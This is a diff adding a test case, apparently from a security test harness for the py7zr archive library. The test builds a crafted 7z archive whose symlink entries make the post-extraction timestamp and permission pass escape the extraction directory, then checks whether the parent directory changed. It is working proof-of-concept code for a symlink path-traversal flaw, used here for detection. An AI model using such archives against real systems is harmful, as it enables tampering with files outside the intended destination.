@@ -453,6 +453,40 @@ def F21():
         if max(v for k, v in out.items() if k != "lzma2") > 1000 else None
 
 
+@case
+def F25():
+    if os.name != "posix":
+        return None
+    # members: file f ; link ./f -> a/.. (replaces the file) ; link a -> .   => post-pass utime/chmod on dest/f follows the links out of the jail
+    import stat as st_, time
+    LNK = 0x8000 | 0x20 | 0x400 | (st_.S_IFLNK | 0o777) << 16
+    REG = 0x8000 | 0x20 | (0o100600 << 16)
+    members = [("f", REG, b"data"), ("./f", LNK, b"a/.."), ("a", LNK, b".")]
+    data = b"".join(m[2] for m in members)
+    sub = PROPERTY.SUBSTREAMS_INFO + PROPERTY.NUM_UNPACK_STREAM + num(3) + PROPERTY.SIZE + num(4) + num(4) + PROPERTY.CRC + b"\x01" + \
+        b"".join(struct.pack("<L", zlib.crc32(m[2])) for m in members) + PROPERTY.END
+    streams = PROPERTY.PACK_INFO + num(0) + num(1) + PROPERTY.SIZE + num(len(data)) + PROPERTY.END \
+        + PROPERTY.UNPACK_INFO + PROPERTY.FOLDER + num(1) + b"\x00" + num(1) + b"\x01\x00" + PROPERTY.CODERS_UNPACK_SIZE + num(len(data)) + PROPERTY.END \
+        + sub + PROPERTY.END
+    names = b"".join(m[0].encode("utf-16le") + b"\x00\x00" for m in members)
+    attrs = b"\x01\x00" + b"".join(struct.pack("<L", m[1]) for m in members)
+    mt = b"\x01\x00" + struct.pack("<Q", 116444736000000000 + 10 ** 7 * 1000) * 3
+    files = PROPERTY.FILES_INFO + num(3) + PROPERTY.NAME + num(len(names) + 1) + b"\x00" + names + PROPERTY.LAST_WRITE_TIME + num(len(mt)) + mt \
+        + PROPERTY.ATTRIBUTES + num(len(attrs)) + attrs + PROPERTY.END
+    hdr = PROPERTY.HEADER + PROPERTY.MAIN_STREAMS_INFO + streams + files + PROPERTY.END
+    blob = seal(hdr, data)
+    d = tmp(); outer = os.path.join(d, "outer"); jail = os.path.join(outer, "jail"); os.makedirs(jail)
+    os.chmod(outer, 0o755)
+    before = (os.stat(outer).st_mtime, st_.S_IMODE(os.stat(outer).st_mode))
+    try:
+        with py7zr.SevenZipFile(io.BytesIO(blob)) as z:
+            z.extractall(jail)
+    except Exception:
+        pass
+    after = (os.stat(outer).st_mtime, st_.S_IMODE(os.stat(outer).st_mode))
+    return f"post-pass followed links out of the destination: parent directory (mtime, mode) {before} -> {after}" if after != before and (after[0] == 1000.0 or after[1] == 0o600) else None
+
+
 if __name__ == "__main__":
     ids = sys.argv[1:]
     if ids == ["all"] or not ids:
